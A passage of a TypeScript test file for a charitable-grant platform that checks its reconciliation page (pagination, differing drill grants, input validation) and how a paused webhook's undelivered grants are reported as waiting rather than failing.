    for (let i = 0; i < 49; i++) {
      const g = await give(100 + i, false);
      assert.equal(dateIn(TZ, new Date(g.createdAt)), drill.day, 'every grant on one day (not across midnight)');
    }
    await eventually(
      async () => {
        const r = await as('admin', 'GET', `/api/reconciliation?date=${drill.day}&nonprofit=${EIN}`);
        return r.body.totals?.grants === 51 && r.body.differences.length === 2;
      },
      60_000,
      'the 49 grants delivered, the two drill grants differing on the wrong secret',
    );

    const differing = await page('');
    assert.deepEqual(
      differing.grants,
      drill.grants.map((g) => g.trackingId),
      'by default the grants with a difference',
    );
    assert.match(differing.html, /With a difference \(2\)/);
    assert.match(differing.html, /All grants \(51\)/);
    assert.match(differing.html, /received, signature not verified/);

    const first = await page('&show=all');
    assert.equal(first.grants.length, 50, 'a page of 50');
    assert.deepEqual(
      first.grants.slice(0, 2),
      drill.grants.map((g) => g.trackingId),
      'in the order they were made',
    );
    assert.ok(first.html.includes('1–50 of 51, in the order they were made'));
    assert.ok(first.html.includes(`href="/reconciliation?date=${drill.day}&amp;nonprofit=${EIN}&amp;show=all&amp;page=2"`), 'a link to page 2');
    assert.match(first.html, /Page 1 of 2/);
    const g0 = drill.grants[0];
    const row = first.html.slice(
      first.html.indexOf(`data-tracking-id="${g0.trackingId}"`),
      first.html.indexOf(`data-tracking-id="${drill.grants[1].trackingId}"`),
    );
    for (const text of [
      '$25.00',
      '$0.73',
      'covered by donor',
      'Schwab Charitable',
      'Initiated',
      'Gamma Shelter',
      new Date(g0.createdAt).toLocaleString('sv-SE', { timeZone: TZ }),
    ])
      assert.ok(row.includes(text), `${text} in ${row}`);
    assert.ok(first.html.includes(`Made (${TZ})`), 'the zone of the times, named');

    const second = await page('&show=all&page=2');
    assert.equal(second.grants.length, 1);
    assert.ok(second.html.includes('51–51 of 51'));
    assert.match(second.html, /← Previous/);
    assert.deepEqual((await page('&show=all&page=3')).grants, []);
    assert.match((await page('&show=all&page=3')).html, /There is no page 3/);
    for (const [q, said] of [
      ['&page=0', /page: must be a page number, 1 or more/],
      ['&page=two', /page: must be a page number, 1 or more/],
      ['&show=everything', /show: must be differences or all/],
    ] as const) {
      const bad = await page(q);
      assert.deepEqual(bad.grants, [], q);
      assert.match(bad.html, said, q);
    }
  });
});

describe('a paused webhook (issue 53.2): its undelivered grants wait, not sent yet, never a failure or a difference', () => {
  // Last in the file: its webhook takes every grant made after it (the counts above are exact), and its own nonprofit's day is read.
  const EIN = '870123456';
  test('retrying, it is a problem; paused, Problems and the day say why it waits (since when, by whom) and count no failure nor difference', async () => {
    // Two refused answers, then each attempt is held (then refused) until the pause has landed: with retries 1 s apart, a
    // loaded machine's polling of Problems once let all 8 attempts go before the PATCH, and the grant was a failure, not
    // waiting. A held attempt keeps the next from going out, however long the test takes to pause.
    let release: () => void = () => {};
    const held = new Promise<void>((resolve) => (release = resolve));
    const ep = receiver.endpoint((_r, n) => (n <= 2 ? { status: 503 } : { status: 503, hold: held }));
    after(release);
    const made = await call(app, 'POST', '/v1/webhooks', { token: tok, body: { url: ep.url, eventTypes: ['grant.succeeded'], description: 'recon paused' } });
    assert.equal(made.status, 201, made.text);
    const hook = made.body.id as string;
    const key = await nonprofitKey(EIN, 'Delta Garden');
    const g = await call(app, 'POST', '/v1/grants', {
      token: tok,
      headers: { 'x-service-api-key': key },
      body: { amount: 4200, fundId: 'fidelity-charitable', firstName: 'Ada', lastName: 'Lovelace', email: 'ada.paused@example.org' },
    });
    assert.equal(g.status, 201, g.text);
    const date = dateIn(TZ, new Date(g.body.createdAt));
    const problems = async () => (await as('admin', 'GET', '/api/problems')).body;
    // Two refused attempts: a retrying message, a problem while its webhook runs. Its group is counted by a read that starts
    // before the list's (lib/console/investigation/index-problems.ts), so a second attempt landing between the two is listed
    // and not yet counted: both are waited for.
    const retrying = await eventually(
      async () => {
        const p = await problems();
        return p.items?.find((i: any) => i.webhookId === hook && i.attemptCount >= 2) && p.groups?.some((gr: any) => gr.webhook.id === hook) && p;
      },
      30_000,
      'the grant retrying after two attempts, on Problems',
    );
    assert.deepEqual(
      retrying.groups.find((gr: any) => gr.webhook.id === hook).counts.map((c: any) => c.key),
      ['retrying'],
    );
    assert.equal((retrying.paused ?? []).filter((p: any) => p.webhookId === hook).length, 0, 'not paused yet');

    // Paused (through the API: no console user named), its retry is parked: pending, not sent yet.
    const paused = await call(app, 'PATCH', `/v1/webhooks/${hook}`, { token: tok, body: { paused: true } });
    assert.equal(paused.status, 200, paused.text);
    // The attempt held meanwhile (if one went) is answered; its retry is then parked.
    release();
    await eventually(
      async () => {
        const [m] = (await call(app, 'GET', `/v1/webhooks/${hook}/messages?pageLimit=1`, { token: tok })).body.results ?? [];
        return m?.status === 'pending' && m.nextAttempt === null;
      },
      30_000,
      'its retry parked',
    );
    const since = new Date(paused.body.pausedAt).toISOString().slice(11, 16);
    const waiting = `paused since ${since} UTC through the API`;
    const p = await problems();
    assert.deepEqual(
      p.items.filter((i: any) => i.webhookId === hook),
      [],
      'its waiting grant is no problem row',
    );
    assert.equal(
      p.groups.find((gr: any) => gr.webhook.id === hook),
      undefined,
      'nor a count of failures',
    );
    assert.deepEqual(
      p.paused.filter((x: any) => x.webhookId === hook).map((x: any) => [x.name, x.sentence]),
      [['recon paused', `${waiting}: its undelivered messages are not sent yet, waiting (not failing), and go out when it is resumed`]],
    );
    const page = await (await fetch(`${app.baseUrl}/problems`, { headers: { cookie: cookies.admin } })).text();
    assert.match(page, /Paused: waiting, not failing/);

    // The day: its row is not sent yet, with why, and no difference.
    const json = await as('admin', 'GET', `/api/reconciliation?date=${date}&nonprofit=${EIN}`);
    assert.equal(json.status, 200, json.text);
    assert.deepEqual(
      json.body.differences.filter((d: any) => d.webhookId === hook),
      [],
      'no difference',
    );
    const csv = await fetch(`${app.baseUrl}/api/reconciliation?date=${date}&nonprofit=${EIN}&format=csv`, { headers: { cookie: cookies.admin } });
    const row = (parse(await csv.text(), { columns: true }) as Record<string, string>[]).find((r) => r.webhook_id === hook)!;
    assert.ok(Number(row.attempts) >= 2, `attempted before the pause: ${row.attempts}`);
    assert.deepEqual([row.service_status, row.delivered, row.state, row.difference], ['pending', 'no', 'not-sent-yet', 'no']);
    // React's markers between adjacent texts left out, to read the sentences whole.
    const html = (
      await (await fetch(`${app.baseUrl}/reconciliation?date=${date}&nonprofit=${EIN}&show=all`, { headers: { cookie: cookies.viewer } })).text()
    ).replaceAll('<!-- -->', '');
    assert.match(html, /Paused: not sent yet, no difference/);
    const around = (text: string) => html.slice(Math.max(0, html.indexOf(text) - 200), html.indexOf(text) + 300);
    assert.ok(html.includes(`recon paused: not sent yet — waiting: webhook ${waiting}`), `the grant says why it waits: ${around('not sent yet —')}`);
    assert.ok(html.includes(`one grant not sent yet, waiting: webhook ${waiting}.`), 'the day counts what waits');
    assert.match(html, /With a difference \(0\)/);
  });
});
